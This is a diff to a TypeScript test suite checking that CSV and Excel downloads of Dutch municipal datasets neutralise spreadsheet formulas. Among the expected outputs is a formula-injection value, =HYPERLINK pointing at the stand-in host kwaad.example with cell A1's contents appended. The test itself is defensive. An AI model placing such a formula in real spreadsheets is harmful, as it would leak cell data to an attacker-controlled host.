@@ -15,6 +15,7 @@ import type { ConvertedDataset } from '../../src/lib/regions/convert';
 import type { RegionRegister } from '../../src/lib/regions/register';
 import { formatCsv, formatCsvRows, neutraliseText, type CsvDialect } from '../../src/lib/downloads/csv';
 import { tableCsv, type DownloadTable } from '../../src/lib/downloads/comparisons';
+import { registerLabel, renderDatasetFile } from '../../src/lib/downloads/files';
 import { datasetFile, gemeenteFile, siteDownloadFiles } from '../../src/lib/downloads/site-files';
 import { revisionsCsv } from '../../src/lib/releases/revisions-file';
 import { defaultSelection } from '../../src/lib/tables/selection';
@@ -216,10 +217,10 @@ describe('CSV cells never run as formulas', () => {
     expect(files).toBeGreaterThan(100);
   });
 
-  it('writes the hostile labels neutralised in the dataset and gemeente files, and as they are in JSON', () => {
+  it('writes the hostile labels neutralised in the dataset and gemeente files, and as they are in a selection’s JSON', () => {
     const id = data.datasets[0]!.meta.id;
-    const csv = datasetFile(data, id, 'csv', SITE);
-    const excel = datasetFile(data, id, 'excel', SITE);
+    const csv = datasetFile(data, id, 'csv');
+    const excel = datasetFile(data, id, 'excel');
     expect(csv).toContain(`"'=HYPERLINK(""https://kwaad.example/?d=""&A1,""Klik hier"")"`);
     expect(csv).toContain(`,"'+1",`);
     expect(csv).toContain(`,"'-2+3",`);
@@ -230,7 +231,9 @@ describe('CSV cells never run as formulas', () => {
     expect(csv).not.toContain("'-3");
     const vught = gemeenteFile(data, 'GM0865', id, 'csv');
     expect(vught).toMatch(/^GM0865,"'=HYPERLINK/m);
-    const json = datasetFile(data, id, 'json', SITE);
+    // JSON is a selection's format (a table page): made by the JSON writer, which needs no neutralising.
+    const d = data.datasets[0]!;
+    const json = renderDatasetFile(d.meta, d.converted.rows, 'json', { regionLabel: registerLabel(data.register), release: undefined, indeling: '' });
     expect(json).toContain(JSON.stringify(HOSTILE[1]));
     expect(json).not.toContain(`"'+1"`);
   });
